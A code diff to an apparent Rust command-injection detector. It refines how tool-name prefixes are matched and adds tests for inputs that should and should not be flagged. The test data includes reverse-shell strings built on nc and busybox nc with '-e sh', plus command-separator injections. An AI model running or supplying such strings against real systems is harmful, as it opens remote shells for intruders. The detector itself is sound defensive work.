@@ -519,7 +519,8 @@ fn tiers_by_scan(w: &[u8]) -> (bool, bool, bool) {
         for name in list {
             let n = name.as_bytes();
             let hit = if tier == 2 && n.ends_with(b"-") {
-                w.len() > n.len() && w.starts_with(n)
+                // (a family's member has three or more bytes after the dash)
+                w.len() >= n.len() + 3 && w.starts_with(n)
             } else {
                 n == w
             };
@@ -543,6 +544,7 @@ fn cmdi_tiers_match_list_scan_for_every_name() {
                 name.to_string(),
                 format!("{name}x"),
                 format!("{name}-x"),
+                format!("{name}xyz"),
                 name[..name.len() - 1].to_string(),
             ] {
                 let w = w.as_bytes();
@@ -834,4 +836,28 @@ fn cmdi_routes_named_like_commands_pass() {
     }
     // in a value, a command with any directory is still a command
     assert!(s("/opt/tools/nc -e /bin/sh 10.0.0.1 4444") >= 5);
+}
+
+#[test]
+fn cmdi_tool_names_that_are_words_or_locale_tags_pass_alone() {
+    for v in [
+        "aptitude test",
+        "aptitude",
+        "gdb tutorial",
+        "htop",
+        "busybox",
+        "Mozilla/5.0 (iPod; U; CPU iPhone OS 3_0 like Mac OS X; aa-ET) AppleWebKit/532.31.2",
+        "Opera/9.97.(Windows NT 5.2; aa-DJ) Presto/2.9.167 Version/12.00",
+    ] {
+        assert!(s(v) < 5, "{v} scored {}", s(v));
+    }
+    // with a separator or arguments they are commands as before
+    for v in [
+        ";gdb -p 1",
+        "| busybox nc 10.0.0.1 4444 -e sh",
+        "aa-status --enabled",
+        "whoami",
+    ] {
+        assert!(s(v) >= 5, "{v} scored {}", s(v));
+    }
 }
